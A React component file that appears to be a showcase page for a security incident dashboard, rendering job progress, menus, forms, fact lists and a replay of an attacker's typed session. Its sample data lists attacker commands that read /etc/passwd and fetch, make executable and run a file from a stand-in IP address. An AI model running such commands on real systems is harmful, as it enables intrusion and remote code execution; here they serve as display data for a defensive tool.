/** The parts that ask, go on by themselves, or tell of one thing: each in its states. */

import { MoreHorizontal } from 'lucide-react';
import { useState } from 'react';
import { Button } from '../parts/button.tsx';
import { CopyBox } from '../parts/copy.tsx';
import { Fact, FactList, Facts } from '../parts/facts.tsx';
import { TextInput } from '../parts/fields.tsx';
import { FollowBox } from '../parts/follow-box.tsx';
import { FormDialog } from '../parts/form-dialog.tsx';
import { HostileText } from '../parts/hostile-text.tsx';
import { JobProgress } from '../parts/job-progress.tsx';
import { Menu } from '../parts/menu.tsx';
import { Panel } from '../parts/page-head.tsx';
import { useReplay } from '../parts/replay.ts';
import { ReplayBar } from '../parts/replay-bar.tsx';
import { Section } from '../parts/section.tsx';
import { ShownOnce } from '../parts/shown-once.tsx';

const nothing = (): void => undefined;
const moments = [0, 400, 900, 4000, 4100, 9000];
const lines = ['uname -a', 'id', 'cat /etc/passwd', 'wget http://203.0.113.9/x', 'chmod +x x', './x'];

function Jobs() {
  return (
    <Panel title="Work of the server">
      <div className="flex flex-col gap-3 p-4">
        <JobProgress label="Preparing" words="Finding the incidents…" progress={{ done: 0, of: 0 }} />
        <JobProgress
          label="Running"
          words="1,250 of 4,312 incidents done. This goes on if you leave."
          progress={{ done: 1250, of: 4312 }}
          onCancel={nothing}
        />
        <JobProgress
          label="Cancelling"
          words="1,275 of 4,312 incidents done."
          progress={{ done: 1275, of: 4312 }}
          onCancel={nothing}
          isCancelling
        />
        <JobProgress
          label="Done"
          words="4,312 incidents changed."
          progress={null}
          onUndo={nothing}
          onClose={nothing}
        />
        <JobProgress
          label="Done in part"
          words="4,302 incidents changed. 10 were not changed."
          progress={null}
          tone="failed"
          onUndo={nothing}
          onClose={nothing}
          left={<p>Somebody or a new event changed it meanwhile</p>}
        />
      </div>
    </Panel>
  );
}

function Told({ hostile }: { hostile: string }) {
  const replay = useReplay(moments);
  return (
    <Panel title="Told as it went">
      <div className="flex flex-col gap-3 p-4">
        <ReplayBar replay={replay} onEnd={nothing} />
        <FollowBox label="What they typed" at={replay.shown} className="h-28 font-mono text-sm">
          {lines.slice(0, replay.shown).map((line) => (
            <div key={line}>{line}</div>
          ))}
          <HostileText text={hostile} />
        </FollowBox>
      </div>
    </Panel>
  );
}

/** `hostile`: what an attacker could have written. */
export function MovingParts({ hostile }: { hostile: string }) {
  const [open, setOpen] = useState<'form' | 'once' | null>(null);
  const [name, setName] = useState('');
  const close = (): void => setOpen(null);
  return (
    <>
      <Panel title="Menus and forms">
        <div className="flex flex-wrap gap-3 p-4">
          <Menu
            label="Actions"
            trigger={
              <Button>
                <MoreHorizontal size={16} aria-hidden />
                More actions
              </Button>
            }
            groups={[
              { entries: [{ id: 'a', label: 'Rename', onAction: nothing }] },
              {
                title: 'Language',
                entries: [
                  { id: 'b', label: 'English', isChosen: true, onAction: nothing },
                  { id: 'c', label: 'Delete', isDangerous: true, onAction: nothing },
                ],
              },
            ]}
          />
          <Button onPress={() => setOpen('form')}>Form</Button>
          <Button onPress={() => setOpen('once')}>Shown once</Button>
        </div>
      </Panel>
      <Jobs />
      <Told hostile={hostile} />
      <Panel title="Facts">
        <div className="grid gap-6 p-4 md:grid-cols-2">
          <Section title="Of a node" aside={<Button look="quiet">Edit</Button>}>
            <FactList
              facts={[
                { name: 'Owner', value: <HostileText prose text={hostile} /> },
                { name: 'Place', value: 'Rack 4' },
                null,
              ]}
            />
          </Section>
          <Facts>
            <Fact name="Name">ssh-dmz-1</Fact>
            <Fact name="Sent">
              <HostileText text={hostile} />
            </Fact>
          </Facts>
        </div>
      </Panel>
      {open === 'form' && (
        <FormDialog
          title="A form"
          action="Save"
          onClose={close}
          isReady={name !== ''}
          onSubmit={() => Promise.reject(new Error('The server refused it'))}
        >
          {() => <TextInput label="Name of it" value={name} onChange={setName} isRequired autoFocus />}
        </FormDialog>
      )}
      {open === 'once' && (
        <ShownOnce title="The key is ready" done="I have it" onClose={close}>
          <CopyBox label="Key" text="dk_example" isSecret />
        </ShownOnce>
      )}
    </>
  );
}
